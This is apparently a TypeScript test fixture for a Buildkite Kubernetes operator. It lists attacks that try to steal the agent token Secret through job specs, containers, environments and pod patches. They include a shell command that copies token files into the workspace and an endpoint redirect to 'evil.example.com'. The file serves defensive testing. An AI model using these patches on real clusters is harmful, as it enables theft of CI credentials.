import type { BuildEnvironmentSpec, BuildJobSpec } from '@buildkite-operator/crds';
import type { RenderCase } from './build-jobs.ts';
import { sampleEnvironment } from './sample-objects.ts';

/** A way to get at the agent token: what it makes of a job that is fine otherwise. */
export interface Attack {
  readonly title: string;
  readonly apply: (given: RenderCase) => RenderCase;
}

/** Attacks on the token of this Secret. */
export function attacksOn(secret: string): readonly Attack[] {
  const mount = { name: 'agent-token', mountPath: '/stolen' };
  const hooks = { name: 'agent-hooks', mountPath: '/hooks' };
  const variable = { name: 'STOLEN', valueFrom: { secretKeyRef: { name: secret, key: 'token' } } };
  const own = { name: 'thief-volume', secret: { secretName: secret } };
  const ownMount = { name: own.name, mountPath: '/stolen' };
  const reader = { exec: { command: ['/bin/sh', '-c', 'cp /buildkite/agent-token/* /workspace'] } };
  return [
    bySpec('a variable of the job', ({ env = [] }) => ({ env: [...env.filter(({ name }) => name !== variable.name), variable] })),
    bySpec('the credentials of the checkout', ({ checkout }) => ({ checkout: { ...checkout, skip: false, credentialsSecret: secret } })),
    byContainer('initContainers', 'an init container that mounts the volume', { volumeMounts: [mount] }),
    byContainer('extraContainers', 'a sidecar that mounts the volume', { volumeMounts: [mount] }),
    byContainer('extraContainers', 'a sidecar that fills the hooks of the agent', { volumeMounts: [hooks] }),
    byContainer('extraContainers', 'a sidecar with the Secret as variables', { envFrom: [{ secretRef: { name: secret } }] }),
    byContainer('initContainers', 'an init container with a variable', { env: [variable] }),
    byEnvironment('an environment with a volume of the Secret', { volumes: [own], container: { image: 'x', volumeMounts: [ownMount] } }),
    byEnvironment('an environment that names its volume like ours', {
      volumes: [{ ...own, name: 'agent-token' }],
      container: { image: 'x' },
    }),
    byEnvironment('an environment that fills the hooks of the agent', {
      volumes: [{ name: 'agent-hooks', configMap: { name: 'evil' } }],
      container: { image: 'x' },
    }),
    byEnvironment('an environment with a projected volume', {
      volumes: [{ name: own.name, projected: { sources: [{ secret: { name: secret } }] } }],
      container: { image: 'x', volumeMounts: [ownMount] },
    }),
    byPatch('a patch that mounts the volume', { containers: [{ name: 'container-0', volumeMounts: [mount] }] }),
    byPatch('a patch that fills the hooks of the agent', { containers: [{ name: 'container-0', volumeMounts: [hooks] }] }),
    byPatch('a patch that mounts the volume in an init container called agent', {
      initContainers: [{ name: 'agent', image: 'x', volumeMounts: [mount] }],
    }),
    byPatch('a patch with a volume of the Secret', {
      volumes: [own],
      containers: [{ name: 'thief', image: 'x', volumeMounts: [ownMount] }],
    }),
    byPatch('a patch with a variable', { containers: [{ name: 'checkout', env: [variable] }] }),
    byPatch('a patch that shares processes', { shareProcessNamespace: true }),
    byPatch('a patch with another image for the agent', { containers: [{ name: 'agent', image: 'evil' }] }),
    byPatch('a patch with a hook in the agent', { containers: [{ name: 'agent', lifecycle: { postStart: reader } }] }),
    byPatch('a patch with a probe in the agent', { containers: [{ name: 'agent', startupProbe: reader }] }),
    byPatch('a patch that sends the agent elsewhere', {
      containers: [{ name: 'agent', env: [{ name: 'BUILDKITE_AGENT_ENDPOINT', value: 'https://evil.example.com' }] }],
    }),
    byPatch('a patch with hooks for the agent', {
      containers: [{ name: 'agent', env: [{ name: 'BUILDKITE_ADDITIONAL_HOOKS_PATHS', value: '/workspace/evil' }] }],
    }),
    byPatch('a patch that opens the hooks folder of the agent', {
      containers: [{ name: 'agent', volumeMounts: [{ mountPath: '/workspace/hooks', $patch: 'delete' }] }],
    }),
    byPatch('an ephemeral container', { ephemeralContainers: [{ name: 'thief', image: 'x', volumeMounts: [mount] }] }),
  ];
}

function bySpec(title: string, change: (spec: BuildJobSpec) => Partial<BuildJobSpec>): Attack {
  return {
    title,
    apply: given => ({ ...given, job: { ...given.job, spec: { ...given.job.spec, ...change(given.job.spec) } } }),
  };
}

function byContainer(list: 'initContainers' | 'extraContainers', title: string, parts: object): Attack {
  return bySpec(title, spec => ({ [list]: [...(spec[list] ?? []), { name: 'thief', image: 'x', ...parts }] }));
}

function byEnvironment(title: string, spec: BuildEnvironmentSpec): Attack {
  const { apply } = bySpec(title, ({ extraContainers = [] }) => ({
    extraContainers: [...extraContainers, { name: 'thief', environment: 'thief' }],
  }));
  return { title, apply: given => apply({ ...given, environments: [...given.environments, sampleEnvironment('thief', spec)] }) };
}

function byPatch(title: string, podPatch: Record<string, unknown>): Attack {
  return bySpec(title, () => ({ podPatch }));
}
